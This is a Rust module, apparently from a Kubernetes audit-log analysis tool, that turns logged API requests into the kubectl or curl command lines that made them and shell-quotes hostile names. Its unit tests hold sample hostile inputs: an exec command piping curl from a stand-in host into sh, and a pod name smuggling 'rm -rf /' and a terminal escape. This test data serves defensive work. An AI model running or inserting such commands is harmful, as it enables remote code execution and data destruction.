//! One request as the command line that made it: the kubectl command when one makes it
//! (`kubectl get secrets -A`, `kubectl exec -it -n shop POD -c C -- sh -c '…'`,
//! `kubectl auth can-i --list`, `kubectl certificate approve NAME`…), else
//! `curl -X VERB URI`. Every argument taken from the log is shell-quoted, so a hostile
//! name reads as one argument and no control character is written raw.

use super::{Req, query_param};
use crate::model::exec::shell_join;

/// The command lines of one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandLine {
    /// The kubectl command that makes this request, when kubectl makes it.
    pub kubectl: Option<String>,
    /// The same request as curl.
    pub curl: String,
    /// API discovery (`/api`, `/apis`, `/openapi/…`, `/version`): the chatter kubectl makes
    /// around a command.
    pub discovery: bool,
}

impl CommandLine {
    /// The line to show for a request by client family `ua_family`: kubectl's when the
    /// client was kubectl or the request is a stream (exec, attach, port-forward) whatever
    /// the client, else curl's.
    pub fn shown(&self, r: &Req) -> &str {
        let kubectl_client = r.ua_family.eq_ignore_ascii_case("kubectl");
        match &self.kubectl {
            Some(k) if kubectl_client || !r.stream.is_empty() => k,
            _ => &self.curl,
        }
    }
}

/// Resources without a namespace: their lists are not cluster-wide (`-A`).
const CLUSTER_SCOPED: &[&str] = &[
    "nodes",
    "namespaces",
    "persistentvolumes",
    "clusterroles",
    "clusterrolebindings",
    "storageclasses",
    "customresourcedefinitions",
    "certificatesigningrequests",
    "mutatingwebhookconfigurations",
    "validatingwebhookconfigurations",
    "validatingadmissionpolicies",
    "validatingadmissionpolicybindings",
    "priorityclasses",
    "apiservices",
    "runtimeclasses",
    "ingressclasses",
    "csidrivers",
    "csinodes",
    "volumeattachments",
    "selfsubjectrulesreviews",
    "selfsubjectaccessreviews",
    "selfsubjectreviews",
    "subjectaccessreviews",
    "tokenreviews",
    "componentstatuses",
    "flowschemas",
    "prioritylevelconfigurations",
];

/// The command lines of a request.
pub fn command_line(r: &Req) -> CommandLine {
    let uri = uri_of(r);
    let discovery = r.resource.is_empty() && is_discovery(&r.path);
    let mut kubectl = kubectl_of(r, &uri).map(|mut args| {
        if !r.impersonated.is_empty() {
            args.push(format!("--as={}", r.impersonated));
        }
        shell_join(&args)
    });
    if let (Some(k), Some(x)) = (&mut kubectl, &r.exec)
        && r.stream == "exec"
        && !x.command_line.is_empty()
    {
        k.push_str(" -- ");
        k.push_str(&x.command_line);
    }
    let curl = shell_join(&[
        "curl".to_owned(),
        "-X".to_owned(),
        http_method(r).to_owned(),
        uri,
    ]);
    CommandLine {
        kubectl,
        curl,
        discovery,
    }
}

fn is_discovery(path: &str) -> bool {
    path == "/api"
        || path == "/apis"
        || path == "/version"
        || path.starts_with("/openapi/")
        || path.starts_with("/api/v1") && !path["/api/v1".len()..].contains('/')
        || path.starts_with("/apis/") && path.matches('/').count() <= 3
}

fn http_method(r: &Req) -> &'static str {
    match r.verb.as_str() {
        "create" | "post" => "POST",
        "update" | "put" => "PUT",
        "patch" => "PATCH",
        "delete" | "deletecollection" => "DELETE",
        "head" => "HEAD",
        "options" => "OPTIONS",
        _ => "GET",
    }
}

/// The request URI as logged, else rebuilt from the columns (version `v1`).
pub fn uri_of(r: &Req) -> String {
    if let Some(u) = &r.request_uri {
        return u.clone();
    }
    if r.resource.is_empty() {
        return r.path.clone();
    }
    let mut u = if r.api_group.is_empty() {
        "/api/v1".to_owned()
    } else {
        format!("/apis/{}/v1", r.api_group)
    };
    if !r.namespace.is_empty() && r.resource != "namespaces" {
        u.push_str("/namespaces/");
        u.push_str(&r.namespace);
    }
    u.push('/');
    u.push_str(&r.resource);
    // A create posts to the collection: the name is in the body, not the path.
    let posted = r.verb == "create" && r.subresource.is_empty();
    if !r.name.is_empty() && !posted {
        u.push('/');
        u.push_str(&r.name);
    }
    if !r.subresource.is_empty() {
        u.push('/');
        u.push_str(&r.subresource);
    }
    if r.verb == "watch" {
        u.push_str("?watch=true");
    }
    u
}

fn s(x: &str) -> String {
    x.to_owned()
}

/// `-n NS`, `-A` for a cluster-wide list of namespaced objects, or nothing.
fn scope(r: &Req, args: &mut Vec<String>) {
    if !r.namespace.is_empty() && r.resource != "namespaces" {
        args.extend([s("-n"), r.namespace.clone()]);
    } else if r.name.is_empty()
        && matches!(r.verb.as_str(), "list" | "watch" | "deletecollection")
        && !CLUSTER_SCOPED.contains(&r.resource.as_str())
    {
        args.push(s("-A"));
    }
}

fn kubectl_of(r: &Req, uri: &str) -> Option<Vec<String>> {
    if r.resource.is_empty() {
        return (r.verb == "get" && !is_discovery(&r.path))
            .then(|| vec![s("kubectl"), s("get"), s("--raw"), r.path.clone()]);
    }
    let field_manager = query_param(uri, "fieldManager").unwrap_or_default();
    let mut args = vec![s("kubectl")];
    match (r.resource.as_str(), r.subresource.as_str(), r.verb.as_str()) {
        ("pods", "exec" | "attach", _) => stream(r, &mut args),
        ("pods", "portforward", _) => port_forward(r, &mut args),
        ("pods", "log", _) => logs(r, uri, &mut args),
        ("selfsubjectrulesreviews", _, "create") => {
            args.extend([s("auth"), s("can-i"), s("--list")]);
        }
        ("selfsubjectaccessreviews", _, "create") => args.extend([s("auth"), s("can-i")]),
        ("serviceaccounts", "token", "create") => {
            args.extend([s("create"), s("token"), r.name.clone()]);
            scope(r, &mut args);
        }
        ("certificatesigningrequests", "approval", "update" | "patch") => {
            args.extend([s("certificate"), s("approve"), r.name.clone()]);
        }
        (_, "proxy", "get") => args.extend([s("get"), s("--raw"), path_only(uri)]),
        (_, "proxy", _) => return None,
        (_, _, "get" | "list" | "watch") => read(r, uri, &mut args),
        (_, _, "create") => write(r, "create", &field_manager, &mut args),
        (_, _, "update") => write(r, "replace", &field_manager, &mut args),
        (_, _, "patch") => write(r, "patch", &field_manager, &mut args),
        (_, _, "delete") => object(r, "delete", &mut args),
        (_, _, "deletecollection") => {
            args.extend([s("delete"), r.resource.clone(), s("--all")]);
            scope(r, &mut args);
        }
        _ => return None,
    }
    Some(args)
}

fn path_only(uri: &str) -> String {
    uri.split('?').next().unwrap_or_default().to_owned()
}

fn stream(r: &Req, args: &mut Vec<String>) {
    args.push(r.subresource.clone());
    let (stdin, tty) = r.exec.as_ref().map_or((false, false), |x| (x.stdin, x.tty));
    match (stdin, tty) {
        (true, true) => args.push(s("-it")),
        (true, false) => args.push(s("-i")),
        (false, true) => args.push(s("-t")),
        (false, false) => {}
    }
    scope(r, args);
    args.push(r.name.clone());
    if let Some(c) = r.exec.as_ref().and_then(|x| x.container.clone()) {
        args.extend([s("-c"), c]);
    }
}

fn port_forward(r: &Req, args: &mut Vec<String>) {
    args.push(s("port-forward"));
    scope(r, args);
    args.push(format!("pod/{}", r.name));
    if let Some(x) = &r.exec {
        args.extend(x.ports.iter().cloned());
    }
}

fn logs(r: &Req, uri: &str, args: &mut Vec<String>) {
    args.push(s("logs"));
    scope(r, args);
    args.push(r.name.clone());
    if let Some(c) = query_param(uri, "container") {
        args.extend([s("-c"), c]);
    }
    if query_param(uri, "follow").as_deref() == Some("true") {
        args.push(s("-f"));
    }
}

fn read(r: &Req, uri: &str, args: &mut Vec<String>) {
    args.extend([s("get"), r.resource.clone()]);
    if !r.name.is_empty() {
        args.push(r.name.clone());
    }
    scope(r, args);
    if let Some(l) = query_param(uri, "labelSelector") {
        args.extend([s("-l"), l]);
    }
    if let Some(f) = query_param(uri, "fieldSelector")
        && !f.starts_with("metadata.name=")
    {
        args.extend([s("--field-selector"), f]);
    }
    if r.verb == "watch" {
        args.push(s("--watch"));
    }
}

/// A write: the kubectl subcommand its field manager names, else `fallback`.
fn write(r: &Req, fallback: &str, field_manager: &str, args: &mut Vec<String>) {
    let verb = match field_manager {
        "kubectl-client-side-apply" | "kubectl" if r.verb != "update" => "apply",
        "kubectl-edit" => "edit",
        "kubectl-label" => "label",
        "kubectl-annotate" => "annotate",
        "kubectl-scale" => "scale",
        "kubectl-rollout" => "rollout restart",
        "kubectl-set" => "set",
        "kubectl-replace" => "replace",
        "kubectl-create" => "create",
        "kubectl-patch" => "patch",
        _ => fallback,
    };
    if verb == "apply" {
        args.extend([s("apply"), s("-f"), format!("{}/{}", r.resource, r.name)]);
        scope(r, args);
        return;
    }
    if verb == "create" && r.subresource.is_empty() {
        // `kubectl create KIND NAME` exists for a few kinds, in the singular; any other
        // object is created from a manifest.
        args.push(s("create"));
        match create_subcommand(&r.resource).filter(|_| !r.name.is_empty()) {
            Some(kind) => {
                args.extend(kind.split(' ').map(s));
                args.push(r.name.clone());
            }
            None if r.name.is_empty() => args.extend([s("-f"), r.resource.clone()]),
            None => args.extend([s("-f"), format!("{}/{}", r.resource, r.name)]),
        }
        scope(r, args);
        return;
    }
    args.extend(verb.split(' ').map(s));
    args.push(r.resource.clone());
    if !r.name.is_empty() {
        args.push(r.name.clone());
    }
    scope(r, args);
    if !r.subresource.is_empty() {
        args.push(format!("--subresource={}", r.subresource));
    }
}

/// The `kubectl create` subcommand of a resource, when kubectl has one.
fn create_subcommand(resource: &str) -> Option<&'static str> {
    Some(match resource {
        "clusterroles" => "clusterrole",
        "clusterrolebindings" => "clusterrolebinding",
        "configmaps" => "configmap",
        "cronjobs" => "cronjob",
        "deployments" => "deployment",
        "ingresses" => "ingress",
        "jobs" => "job",
        "namespaces" => "namespace",
        "poddisruptionbudgets" => "poddisruptionbudget",
        "priorityclasses" => "priorityclass",
        "resourcequotas" => "quota",
        "roles" => "role",
        "rolebindings" => "rolebinding",
        "secrets" => "secret generic",
        "serviceaccounts" => "serviceaccount",
        _ => return None,
    })
}

fn object(r: &Req, verb: &str, args: &mut Vec<String>) {
    args.extend([s(verb), r.resource.clone()]);
    if !r.name.is_empty() {
        args.push(r.name.clone());
    }
    scope(r, args);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::ExecInfo;

    fn req(verb: &str, resource: &str, ns: &str, name: &str) -> Req {
        Req {
            verb: verb.into(),
            resource: resource.into(),
            namespace: ns.into(),
            name: name.into(),
            ua_family: "kubectl".into(),
            ..Req::default()
        }
    }

    fn shown(r: &Req) -> String {
        command_line(r).shown(r).to_owned()
    }

    #[test]
    fn lists_read_as_kubectl_get_with_their_scope() {
        assert_eq!(
            shown(&req("list", "pods", "shop", "")),
            "kubectl get pods -n shop"
        );
        assert_eq!(
            shown(&req("list", "secrets", "", "")),
            "kubectl get secrets -A"
        );
        assert_eq!(shown(&req("list", "nodes", "", "")), "kubectl get nodes");
        assert_eq!(
            shown(&req("get", "secrets", "shop", "db")),
            "kubectl get secrets db -n shop"
        );
        assert_eq!(
            shown(&req("watch", "pods", "shop", "")),
            "kubectl get pods -n shop --watch"
        );
    }

    #[test]
    fn exec_shows_the_decoded_command_shell_quoted() {
        let mut r = req("create", "pods", "shop", "web-0");
        r.subresource = "exec".into();
        r.stream = "exec".into();
        r.ua_family = "python-requests".into();
        let mut x = ExecInfo::from_parts(
            crate::model::exec::StreamKind::Exec,
            vec!["sh".into(), "-c".into(), "curl -s http://x/y | sh".into()],
            Some("app".into()),
        );
        x.stdin = true;
        x.tty = true;
        r.exec = Some(x);
        assert_eq!(
            shown(&r),
            "kubectl exec -it -n shop web-0 -c app -- sh -c 'curl -s http://x/y | sh'"
        );
    }

    #[test]
    fn reviews_tokens_and_approvals_are_their_kubectl_commands() {
        assert_eq!(
            shown(&req("create", "selfsubjectrulesreviews", "", "")),
            "kubectl auth can-i --list"
        );
        let mut t = req("create", "serviceaccounts", "kube-system", "ctrl");
        t.subresource = "token".into();
        assert_eq!(shown(&t), "kubectl create token ctrl -n kube-system");
        let mut a = req("update", "certificatesigningrequests", "", "csr-1");
        a.subresource = "approval".into();
        assert_eq!(shown(&a), "kubectl certificate approve csr-1");
        let mut imp = req("list", "secrets", "", "");
        imp.impersonated = "kubernetes-admin".into();
        assert_eq!(shown(&imp), "kubectl get secrets -A --as=kubernetes-admin");
    }

    #[test]
    fn writes_name_their_kind_and_object() {
        let mut c = req("create", "clusterrolebindings", "", "x");
        c.api_group = "rbac.authorization.k8s.io".into();
        // kubectl's own subcommand, in the singular (`create clusterrolebindings x` is no
        // kubectl command); a kind without one is created from a manifest.
        assert_eq!(shown(&c), "kubectl create clusterrolebinding x");
        assert_eq!(
            shown(&req("create", "pods", "shop", "web-0")),
            "kubectl create -f pods/web-0 -n shop"
        );
        assert_eq!(
            shown(&req("create", "secrets", "shop", "db")),
            "kubectl create secret generic db -n shop"
        );
        c.request_uri = Some(
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-client-side-apply".into(),
        );
        assert_eq!(shown(&c), "kubectl apply -f clusterrolebindings/x");
        assert_eq!(
            shown(&req("deletecollection", "events", "shop", "")),
            "kubectl delete events --all -n shop"
        );
        assert_eq!(
            shown(&req("delete", "pods", "shop", "web-0")),
            "kubectl delete pods web-0 -n shop"
        );
    }

    #[test]
    fn other_clients_and_odd_requests_read_as_curl() {
        let mut r = req("list", "pods", "shop", "");
        r.ua_family = "curl".into();
        assert_eq!(shown(&r), "curl -X GET /api/v1/namespaces/shop/pods");
        let mut n = req("post", "", "", "");
        n.path = "/apis/x/y/z/w".into();
        assert_eq!(shown(&n), "curl -X POST /apis/x/y/z/w");
        let mut d = req("get", "", "", "");
        d.path = "/apis".into();
        assert!(command_line(&d).discovery);
    }

    #[test]
    fn hostile_names_stay_one_quoted_argument() {
        let r = req("get", "pods", "shop", "a; rm -rf /\x1b[2J");
        let line = shown(&r);
        assert!(!line.contains('\x1b'), "{line}");
        assert!(line.contains("$'a; rm -rf /\\x1b[2J'"), "{line}");
    }

    #[test]
    fn regression_a_rebuilt_create_uri_named_the_object_in_the_path() {
        let mut r = req("create", "pods", "shop", "web-cache-warmup");
        r.ua_family = "python-requests".into();
        assert_eq!(uri_of(&r), "/api/v1/namespaces/shop/pods");
        let mut token = req("create", "serviceaccounts", "ci", "deployer");
        token.subresource = "token".into();
        assert_eq!(
            uri_of(&token),
            "/api/v1/namespaces/ci/serviceaccounts/deployer/token"
        );
    }
}
